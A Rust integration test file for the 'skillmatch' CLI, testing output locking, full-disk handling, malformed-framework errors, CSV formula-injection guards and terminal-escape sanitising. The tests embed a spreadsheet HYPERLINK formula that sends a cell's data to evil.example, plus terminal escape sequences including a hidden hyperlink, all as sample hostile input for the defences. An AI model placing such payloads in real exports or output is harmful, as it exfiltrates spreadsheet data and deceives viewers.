//! Hardening of what skillmatch writes and reports (issue 11, findings 12–16), end to end
//! through the binary:
//! - a framework file's own failure reason survives inside a corpus folder, an SFIA CSV
//!   without its Code column is refused by name, conflicting duplicate codes are warned of;
//! - two runs writing one `--out` cannot interleave: the second is refused;
//! - output that cannot be written (a full disk) exits 2, a closed pipe stays silent;
//! - CSV cells cannot become spreadsheet formulas (unless `--csv-raw`);
//! - terminal output and stderr carry no raw control characters.
//!
//! Inputs are generated in temporary folders; matching runs use the shared SFIA 9 framework.

mod common;

use assert_cmd::Command;
use common::{shared_dir, skillmatch};
use predicates::prelude::*;
use std::fs::File;
use std::path::{Path, PathBuf};
use std::time::Duration;
use tempfile::TempDir;

/// A generous bound that only catches a real hang.
const HANG: Duration = Duration::from_secs(300);

fn sfia9() -> PathBuf {
    shared_dir().join("frameworks/sfia-9")
}

/// A document that matches several SFIA 9 skills.
const DOC: &str = "I manage IT service delivery and lead incident management for a large team. \
I design network infrastructure and plan capacity for the data centre. I set the information \
security strategy and am accountable for risk management across the organisation.";

/// The binary without `--quiet` (warnings are what some tests look at).
fn loud(index: &Path) -> Command {
    let mut cmd = Command::cargo_bin("skillmatch").expect("binary");
    cmd.env_remove("SKILLMATCH_CORPUS").env("SKILLMATCH_INDEX", index).timeout(HANG);
    cmd
}

/// `skillmatch --quiet --corpus sfia-9` with the test's own index.
fn sfia(tmp: &TempDir) -> Command {
    let mut cmd = skillmatch(&tmp.path().join("index"));
    cmd.arg("--corpus").arg(sfia9()).timeout(HANG);
    cmd
}

/// [`sfia`] as a plain process, for redirecting its standard streams.
fn sfia_process(tmp: &TempDir) -> std::process::Command {
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("skillmatch"));
    cmd.env_remove("SKILLMATCH_CORPUS")
        .args(["--quiet", "--index"])
        .arg(tmp.path().join("index"))
        .arg("--corpus")
        .arg(sfia9())
        .stdin(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped());
    cmd
}

fn write(path: &Path, text: &str) -> PathBuf {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(path, text).expect("write");
    path.to_path_buf()
}

/// A folder of `n` small documents.
fn docs(tmp: &TempDir, n: usize) -> PathBuf {
    let dir = tmp.path().join("docs");
    for i in 0..n {
        write(&dir.join(format!("doc{i:03}.txt")), &format!("Document {i}. {DOC}"));
    }
    dir
}

fn stderr_of(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

// ---- 13. Two runs writing one --out ----

#[test]
fn a_second_run_on_a_locked_out_is_refused_and_leaves_the_first_runs_file_alone() {
    let tmp = TempDir::new().unwrap();
    let docs = docs(&tmp, 3);
    let out = tmp.path().join("results.jsonl");
    let partial = tmp.path().join("results.jsonl.partial");
    // Another run is writing: it holds the lock on the partial file and has written a line.
    std::fs::write(&partial, "{\"id\":\"first run\"}\n").unwrap();
    let holder = File::options().read(true).write(true).open(&partial).unwrap();
    holder.try_lock().expect("test holds the lock");
    let output = sfia(&tmp).arg("bulk").arg(&docs).arg("--out").arg(&out).output().unwrap();
    let stderr = stderr_of(&output);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("another skillmatch run is writing") && stderr.contains("results.jsonl"),
        "{stderr}"
    );
    assert_eq!(std::fs::read_to_string(&partial).unwrap(), "{\"id\":\"first run\"}\n", "not truncated");
    assert!(!out.exists());
    // `rank --out` takes the same lock.
    let advert = write(&tmp.path().join("advert.txt"), DOC);
    let ranked = tmp.path().join("ranked.csv");
    let ranked_partial = tmp.path().join("ranked.csv.partial");
    let holder2 = File::create(&ranked_partial).unwrap();
    holder2.try_lock().unwrap();
    let output = sfia(&tmp).arg("rank").arg(&advert).arg(&docs).arg("--out").arg(&ranked).output().unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", stderr_of(&output));
    assert!(stderr_of(&output).contains("another skillmatch run is writing"), "{}", stderr_of(&output));
    // Once the first run is gone, the same command succeeds.
    drop((holder, holder2));
    sfia(&tmp).arg("bulk").arg(&docs).arg("--out").arg(&out).assert().success();
    assert_eq!(std::fs::read_to_string(&out).unwrap().lines().count(), 3);
    assert!(!partial.exists());
}

#[test]
fn two_runs_started_together_on_one_out_never_leave_a_garbage_line() {
    let tmp = TempDir::new().unwrap();
    let docs = docs(&tmp, 150);
    let out = tmp.path().join("results.jsonl");
    // Build the index first, so both runs get to writing at about the same time.
    sfia(&tmp).args(["list", "--format", "json"]).assert().success();
    for _ in 0..3 {
        let spawn = || {
            sfia_process(&tmp)
                .args(["bulk", "--jobs", "1", "--out"])
                .arg(&out)
                .arg(&docs)
                .spawn()
                .expect("spawn")
        };
        let (a, b) = (spawn(), spawn());
        let results = [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()];
        for r in &results {
            let code = r.status.code();
            assert!(
                code == Some(0) || (code == Some(2) && stderr_of(r).contains("another skillmatch run")),
                "{code:?}: {}",
                stderr_of(r)
            );
        }
        assert!(results.iter().any(|r| r.status.success()));
        let text = std::fs::read_to_string(&out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 150, "one record per document");
        for line in lines {
            let value: serde_json::Value =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("garbage line ({e}): {line}"));
            assert!(value.get("id").is_some(), "{line}");
        }
    }
}

// ---- 14. Output that cannot be written ----

/// `/dev/full` answers every write with ENOSPC, as a full disk does.
#[cfg(target_os = "linux")]
#[test]
fn a_full_disk_exits_2_for_bulk_match_and_rank_and_a_closed_pipe_stays_silent() {
    use std::os::unix::fs::FileTypeExt;
    let full = PathBuf::from("/dev/full");
    let tmp = TempDir::new().unwrap();
    let docs = docs(&tmp, 3);
    let doc = docs.join("doc000.txt");
    let check = |output: std::process::Output, what: &str| {
        let stderr = stderr_of(&output);
        assert_eq!(output.status.code(), Some(2), "{what}: {stderr}");
        assert!(stderr.contains("No space left on device"), "{what}: {stderr}");
    };
    // --out /dev/full: written directly (a device is never replaced by a renamed file).
    check(sfia(&tmp).arg("bulk").arg(&docs).arg("--out").arg(&full).output().unwrap(), "bulk --out");
    let advert = write(&tmp.path().join("advert.txt"), DOC);
    check(
        sfia(&tmp).arg("rank").arg(&advert).arg(&docs).arg("--out").arg(&full).output().unwrap(),
        "rank --out",
    );
    assert!(full.metadata().unwrap().file_type().is_char_device(), "/dev/full is still a device");
    assert!(!PathBuf::from("/dev/full.partial").exists());
    // `--out /dev/stdout` with standard output redirected to a file: written through, and
    // /dev/stdout is not replaced by a renamed partial file.
    let redirected = tmp.path().join("redirected.jsonl");
    let status = sfia_process(&tmp)
        .arg("bulk")
        .arg(&docs)
        .args(["--out", "/dev/stdout"])
        .stdout(File::create(&redirected).unwrap())
        .status()
        .unwrap();
    assert!(status.success());
    assert_eq!(std::fs::read_to_string(&redirected).unwrap().lines().count(), 3);
    assert!(!PathBuf::from("/dev/stdout.partial").exists());
    // Standard output on a full disk.
    let stdout = || File::options().write(true).open(&full).unwrap();
    check(sfia_process(&tmp).arg("bulk").arg(&docs).stdout(stdout()).output().unwrap(), "bulk > /dev/full");
    check(sfia_process(&tmp).arg("match").arg(&doc).stdout(stdout()).output().unwrap(), "match > /dev/full");
    check(
        sfia_process(&tmp).args(["match", "--format", "csv"]).arg(&doc).stdout(stdout()).output().unwrap(),
        "match csv > /dev/full",
    );
    // A reader that stops early (`| head`) is not an error.
    let mut child = sfia_process(&tmp).arg("list").stdout(std::process::Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", stderr_of(&output));
    assert_eq!(stderr_of(&output), "");
}

// ---- 12. Framework failures inside a corpus folder ----

/// A copy of the real ESCO skills file cut inside a quoted field (a download that stopped).
fn truncated_esco(dir: &Path) -> PathBuf {
    let bytes = std::fs::read(shared_dir().join("frameworks/esco-1.1.0/skills_en.csv")).expect("ESCO skills");
    let from = 200_000.min(bytes.len() / 2);
    let quote = bytes[from..].windows(2).position(|w| w == b",\"").expect("a quoted field") + from;
    let path = dir.join("skills_en.csv");
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(&path, &bytes[..quote + 6]).unwrap();
    path
}

/// The header of the SFIA Skills sheet CSV with `code` as its Code column's name.
fn sfia_csv(code: &str) -> String {
    format!(
        "#,Levels,{code},URL,Skill,Category,Subcategory,Overall description,Guidance notes,\
Level 1 description,Level 2 description,Level 3 description\n\
1,2,WXYZ,https://example.org/en/skillcode/9/WXYZ,Widget tuning,Making,Widgets,Tuning widgets.,,\
,Tunes a widget under guidance.,Tunes widgets alone.\n"
    )
}

#[test]
fn each_skipped_files_reason_is_in_the_error_when_a_folder_gives_nothing() {
    let tmp = TempDir::new().unwrap();
    let corpus = tmp.path().join("corpus");
    let esco = truncated_esco(&corpus);
    write(&corpus.join("broken.json"), "{\"skils\": [ {\"name\": \"A\"");
    write(&corpus.join("team.csv"), "code,name,level,level_description\nAB,Alpha,nine,Does.\n");
    write(&corpus.join("renamed.csv"), &sfia_csv("Ref"));
    let output = loud(&tmp.path().join("index")).arg("--corpus").arg(&corpus).arg("list").output().unwrap();
    let stderr = stderr_of(&output);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("no framework skills found in"), "{stderr}");
    for expected in [
        format!("{}: malformed CSV: line", esco.display()),
        "never closed".to_string(),
        "broken.json: not a recognised framework source (malformed JSON at line 1".to_string(),
        "team.csv row 2: level 'nine'".to_string(),
        "renamed.csv: sheet 'renamed.csv' has no 'Code' column".to_string(),
    ] {
        assert!(stderr.contains(&expected), "missing {expected:?} in:\n{stderr}");
    }
    // Each reason is the one the file gives when named on its own.
    let alone = loud(&tmp.path().join("index2")).arg("--corpus").arg(&esco).arg("list").output().unwrap();
    let reason = stderr_of(&alone);
    let line = reason.lines().next().unwrap().trim_start_matches("skillmatch: error: ");
    assert!(stderr.contains(line), "{line} in:\n{stderr}");
}

#[test]
fn skipped_files_are_warned_of_when_the_rest_of_the_folder_loads() {
    let tmp = TempDir::new().unwrap();
    let corpus = tmp.path().join("corpus");
    truncated_esco(&corpus.join("esco"));
    write(&corpus.join("team.csv"), "code,name\nAB,Alpha\n");
    write(&corpus.join("renamed.csv"), &sfia_csv("Skill ref"));
    let output = loud(&tmp.path().join("index")).arg("--corpus").arg(&corpus).arg("list").output().unwrap();
    let stderr = stderr_of(&output);
    assert!(output.status.success(), "{stderr}");
    assert!(
        stderr.contains("warning: skipped") && stderr.contains("skills_en.csv: malformed CSV"),
        "{stderr}"
    );
    assert!(stderr.contains("renamed.csv: sheet 'renamed.csv' has no 'Code' column"), "{stderr}");
}

#[test]
fn an_sfia_csv_without_its_code_column_is_refused_not_read_without_levels() {
    let tmp = TempDir::new().unwrap();
    let renamed = write(&tmp.path().join("sfia-9-skills.csv"), &sfia_csv("Ref"));
    skillmatch(&tmp.path().join("index"))
        .arg("--corpus")
        .arg(&renamed)
        .arg("list")
        .timeout(HANG)
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("sfia-9-skills.csv")
                .and(predicate::str::contains("no 'Code' column"))
                .and(predicate::str::contains("Level 1 description")),
        );
    // With its Code column the same file loads, levels and all.
    let good = write(&tmp.path().join("good/sfia-9-skills.csv"), &sfia_csv("Code"));
    let shown = common::json_of(
        skillmatch(&tmp.path().join("index3"))
            .arg("--corpus")
            .arg(&good)
            .args(["show", "WXYZ", "--format", "json"]),
    );
    assert_eq!(shown[0]["levels"].as_array().map(Vec::len), Some(2), "{shown}");
}

#[test]
fn conflicting_duplicate_codes_are_warned_of_naming_both_sources() {
    let tmp = TempDir::new().unwrap();
    let corpus = tmp.path().join("corpus");
    // Two files of one framework ("team") that give code AB different names and texts.
    write(&corpus.join("a.csv"), "framework,code,name,description\nteam,AB,Alpha,Writes alpha reports.\n");
    write(
        &corpus.join("b.json"),
        r#"{"id": "team", "skills": [{"code": "ab", "name": "Beta", "description": "Runs beta trials."},
            {"code": "CD", "name": "Gamma"}, {"code": "CD", "name": "Delta"}]}"#,
    );
    let output = loud(&tmp.path().join("index")).arg("--corpus").arg(&corpus).arg("list").output().unwrap();
    let stderr = stderr_of(&output);
    assert!(output.status.success(), "{stderr}");
    let across = stderr.lines().find(|l| l.contains("team skill ab")).unwrap_or_else(|| panic!("{stderr}"));
    assert!(
        across.contains("a.csv and ")
            && across.contains("b.json")
            && across.contains("name 'Alpha' vs 'Beta'"),
        "{across}"
    );
    assert!(across.contains("description"), "{across}");
    let within = stderr.lines().find(|l| l.contains("skill CD")).unwrap_or_else(|| panic!("{stderr}"));
    assert!(within.contains("b.json skills[1] and ") && within.contains("b.json skills[2]"), "{within}");
    // Agreeing duplicates (the same skill twice, one adding a level) are not warned of.
    let quiet = tmp.path().join("agree");
    write(&quiet.join("a.csv"), "framework,code,name\nteam,AB,Alpha\n");
    write(
        &quiet.join("b.json"),
        r#"{"id": "team", "skills": [{"code": "AB", "name": "alpha", "levels": [{"level": 2, "description": "x"}]}]}"#,
    );
    let output = loud(&tmp.path().join("index2")).arg("--corpus").arg(&quiet).arg("list").output().unwrap();
    assert!(!stderr_of(&output).contains("given differently"), "{}", stderr_of(&output));
}

// ---- 15. CSV formula injection ----

/// A CV whose sentences each start with a spreadsheet formula character.
const FORMULAS: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") I manage IT service delivery and \
lead incident management for a large team.\n\n@SUM(1+1) I design network infrastructure and plan capacity \
for the data centre.\n\n+I set the information security strategy and am accountable for risk management \
across the organisation.\n\n-I lead the incident management process and review major incidents with \
service owners.\n";

/// The records of a CSV text, header first.
fn csv_rows(text: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text)
        .records()
        .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
        .collect()
}

/// The cell of `column` in every data row.
fn column(rows: &[Vec<String>], column: &str) -> Vec<String> {
    let index =
        rows[0].iter().position(|h| h == column).unwrap_or_else(|| panic!("{column} in {:?}", rows[0]));
    rows[1..].iter().map(|r| r[index].clone()).collect()
}

/// Whether a cell would start a formula in a spreadsheet.
fn formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn csv_cells_that_start_a_formula_are_neutralised_unless_csv_raw() {
    let tmp = TempDir::new().unwrap();
    // File names that are formulas too; run from the folder so the names are given as is.
    write(&tmp.path().join("=advert.txt"), FORMULAS);
    write(&tmp.path().join("@cv.txt"), FORMULAS);
    write(
        &tmp.path().join("in.jsonl"),
        &format!(
            "{{\"id\": \"=1+1\", \"text\": {}}}\n{{\"id\": -7, \"text\": {}}}\n",
            serde_json::to_string(FORMULAS).unwrap(),
            serde_json::to_string(&format!("-{DOC}")).unwrap()
        ),
    );
    let run = |args: &[&str]| {
        let output = sfia(&tmp).current_dir(tmp.path()).args(args).assert().success().get_output().clone();
        (output.stdout.clone(), csv_rows(&output.stdout))
    };
    let guarded = |rows: &[Vec<String>], name: &str| {
        let cells = column(rows, name);
        assert!(!cells.is_empty(), "{name}: no rows");
        for cell in &cells {
            assert!(!formula(cell), "{name}: {cell:?} starts a formula");
        }
        cells
    };

    // match: the source and the evidence.
    let (bytes, rows) = run(&["match", "--format", "csv", "=advert.txt"]);
    assert_eq!(guarded(&rows, "source")[0], "'=advert.txt");
    assert!(
        guarded(&rows, "evidence").iter().any(|e| e.starts_with("'-") || e.starts_with("'=")),
        "{rows:?}"
    );
    assert!(String::from_utf8_lossy(&bytes).contains("\"'=advert.txt\""), "neutralised cells are quoted");
    for score in column(&rows, "score") {
        assert!(score.parse::<f64>().is_ok(), "numeric cells stay numbers: {score}");
    }
    // rank: the CV and its strongest evidence.
    let (_, rows) = run(&["rank", "--format", "csv", "=advert.txt", "@cv.txt"]);
    assert_eq!(guarded(&rows, "cv"), vec!["'@cv.txt".to_string()]);
    guarded(&rows, "strongest_evidence");
    // compare: advert, CV and both evidence columns.
    let (_, rows) = run(&["compare", "--format", "csv", "=advert.txt", "@cv.txt"]);
    assert_eq!(guarded(&rows, "advert")[0], "'=advert.txt");
    assert_eq!(guarded(&rows, "cv")[0], "'@cv.txt");
    guarded(&rows, "advert_evidence");
    // bulk: a text id is guarded, a numeric id (negative) is a number and left alone.
    let (_, rows) = run(&["bulk", "--format", "csv", "--top", "1", "--jsonl-in", "in.jsonl"]);
    let ids = column(&rows, "id");
    assert_eq!(ids, vec!["'=1+1".to_string(), "-7".to_string()], "{rows:?}");
    guarded(&rows, "evidence");

    // --csv-raw: text exactly as it was, for programs.
    let (_, rows) = run(&["--csv-raw", "match", "--format", "csv", "=advert.txt"]);
    assert_eq!(column(&rows, "source")[0], "=advert.txt");
    assert!(column(&rows, "evidence").iter().any(|e| formula(e)), "{rows:?}");
    let (_, rows) = run(&["bulk", "--csv-raw", "--format", "csv", "--top", "1", "--jsonl-in", "in.jsonl"]);
    assert_eq!(column(&rows, "id"), vec!["=1+1".to_string(), "-7".to_string()]);
}

// ---- 16. Terminal escapes ----

/// Conceal (`ESC[8m`), an OSC 8 hyperlink, a C1 CSI (U+009B) and a carriage return.
const HOSTILE: &str = "\u{1b}[8m\u{1b}]8;;http://evil.example/\u{7}\u{9b}31m\r";

/// The control characters of `text` other than the line feed, after taking out the colour
/// sequences skillmatch's own painter writes.
fn controls(text: &str) -> Vec<char> {
    let mut rest = text.to_string();
    for sgr in ["1;36", "1", "32", "33", "31", "2", "0"] {
        rest = rest.replace(&format!("\u{1b}[{sgr}m"), "");
    }
    rest.chars().filter(|c| c.is_control() && *c != '\n').collect()
}

#[test]
fn tables_and_stderr_show_control_characters_instead_of_obeying_them() {
    let tmp = TempDir::new().unwrap();
    let advert = write(&tmp.path().join("advert.txt"), DOC);
    let cvs = tmp.path().join("cvs");
    // A CV whose text and name carry escapes, then ordinary CVs that must stay visible. One
    // paragraph per sentence, so that each is evidence of its own.
    let paragraphs = |prefix: &str| {
        let more = "I lead the incident management process and review major incidents with service \
                    owners. I monitor the capacity of servers and storage and forecast demand.";
        format!("{DOC} {more}")
            .trim_end_matches('.')
            .split(". ")
            .map(|s| format!("{prefix}{s}{prefix}."))
            .collect::<Vec<_>>()
            .join("\n\n")
    };
    write(&cvs.join("a\u{1b}[8m.txt"), &paragraphs(HOSTILE));
    for i in 0..3 {
        write(&cvs.join(format!("plain{i}.txt")), &paragraphs(""));
    }
    for color in ["never", "always"] {
        let output = sfia(&tmp)
            .current_dir(tmp.path())
            .args(["--color", color, "rank"])
            .arg(&advert)
            .arg("cvs")
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", stderr_of(&output));
        let table = String::from_utf8(output.stdout).unwrap();
        assert_eq!(controls(&table), Vec::<char>::new(), "--color {color}:\n{table}");
        assert!(table.contains("\\x1b[8m"), "shown, not obeyed: {table}");
        for i in 0..3 {
            assert!(table.contains(&format!("plain{i}.txt")), "rows after the hostile CV stay: {table}");
        }
        assert!(table.contains("CPMG: ") || table.contains("USUP: "), "evidence is shown: {table}");
        let hostile = cvs.join("a\u{1b}[8m.txt");
        let output = sfia(&tmp).args(["--color", color, "match"]).arg(&hostile).output().unwrap();
        let table = String::from_utf8(output.stdout).unwrap();
        assert_eq!(controls(&table), Vec::<char>::new(), "--color {color}:\n{table}");
        assert!(table.contains("a\\x1b[8m.txt · sfia-9"), "{table}");
        let output =
            sfia(&tmp).args(["--color", color, "compare"]).arg(&hostile).arg(&hostile).output().unwrap();
        let table = String::from_utf8(output.stdout).unwrap();
        assert_eq!(controls(&table), Vec::<char>::new(), "--color {color}:\n{table}");
    }
    // Errors on stderr: a missing file whose name carries escapes.
    let missing = tmp.path().join(format!("gone{HOSTILE}.txt"));
    let output = sfia(&tmp).arg("match").arg(&missing).output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    let stderr = stderr_of(&output);
    assert!(stderr.contains("gone\\x1b[8m"), "{stderr}");
    assert_eq!(controls(&stderr), Vec::<char>::new(), "{stderr}");
    // Warnings on stderr: a skipped corpus file whose name and content carry escapes.
    let corpus = tmp.path().join("corpus");
    write(&corpus.join("team.csv"), "code,name\nAB,Alpha\n");
    write(&corpus.join(format!("notes{HOSTILE}.txt")), &format!("Just notes {HOSTILE}"));
    let output = loud(&tmp.path().join("index2")).arg("--corpus").arg(&corpus).arg("list").output().unwrap();
    let stderr = stderr_of(&output);
    assert!(output.status.success() && stderr.contains("warning: skipped"), "{stderr}");
    assert!(stderr.contains("notes\\x1b[8m"), "{stderr}");
    assert_eq!(controls(&stderr), Vec::<char>::new(), "{stderr}");
    // `show` of a framework whose own texts carry escapes.
    write(
        &corpus.join("team.csv"),
        &format!("code,name,description,level,level_description\nAB,Alpha{HOSTILE},Does{HOSTILE}.,2,Two{HOSTILE}\n"),
    );
    let output = skillmatch(&tmp.path().join("index2"))
        .arg("--corpus")
        .arg(&corpus)
        .args(["show", "AB"])
        .output()
        .unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(output.status.success() && text.contains("Alpha\\x1b[8m"), "{text}");
    assert_eq!(controls(&text), Vec::<char>::new(), "{text}");
    let output =
        skillmatch(&tmp.path().join("index2")).arg("--corpus").arg(&corpus).arg("list").output().unwrap();
    assert_eq!(controls(&String::from_utf8(output.stdout).unwrap()), Vec::<char>::new());
}
